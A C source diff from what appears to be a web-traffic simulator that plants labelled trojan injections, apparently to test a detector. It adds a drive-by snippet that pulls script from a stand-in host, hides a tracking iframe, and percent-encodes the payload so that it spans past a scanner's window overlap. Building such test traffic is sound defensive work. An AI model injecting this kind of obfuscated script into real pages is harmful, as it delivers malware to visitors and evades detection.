@@ -156,7 +156,12 @@ static void iis_access_log(struct webconn *w, bs_time t, const char *method, con
 #define TROJAN_HOST "update.flash-player.example.cn"
 #define POPUP "window.open(\"http://" TROJAN_HOST "/install.exe\",\"_blank\",\"width=400,height=300\")"
 static const char WINDOW_OPEN[] = "<script>" POPUP "</script>\n";
-static const char POPJS[] = "<script src=\"http://" TROJAN_HOST "/pop.js\"></script>";
+/* what injected code writes at once: the script, a hidden frame to count
+ * the visit, a style to hide what the trojan's box covers */
+static const char POPJS_LONG[] = "<script src=\"http://" TROJAN_HOST "/pop.js\"></script>"
+	"<iframe src=\"http://" TROJAN_HOST "/count.php?ref=webmail&amp;lang=en&amp;v=2\" width=\"0\" height=\"0\" "
+	"frameborder=\"0\" style=\"visibility:hidden;position:absolute;left:-500px;top:-500px\"></iframe>"
+	"<style type=\"text/css\">#fpupd{position:absolute;top:120px;left:30%;width:380px;z-index:1000}</style>";
 
 /* One number in the packer's base-62 digits (its e(): 0-9, a-z, A-Z). */
 static void base62(struct buf *b, unsigned v)
@@ -228,9 +233,9 @@ const char *tamper_snippet(void)
 	case STYLE_WINDOW_OPEN:
 		buf_puts(&b, WINDOW_OPEN);
 		break;
-	case STYLE_UNESCAPE: /* every byte as %XX */
+	case STYLE_UNESCAPE: /* every byte as %XX: 1.4 KB, longer than the scan's window overlap */
 		buf_puts(&b, "<script type=\"text/javascript\">document.write(unescape(\"");
-		for (const char *p = POPJS; *p; p++)
+		for (const char *p = POPJS_LONG; *p; p++)
 			buf_printf(&b, "%%%02X", (unsigned)(unsigned char)*p);
 		buf_puts(&b, "\"));</script>\n");
 		break;
@@ -343,6 +348,7 @@ bs_time web_request(struct webconn *w, bs_time t, const char *method, const char
 			ws->tamper_first = treq;
 		if (ws->tamper_last == TIME_NEVER || treq > ws->tamper_last)
 			ws->tamper_last = treq;
+		ws->tampered_answers++;
 		if (cookie_user >= 0)
 			truth_trojan(cookie_user);
 	}
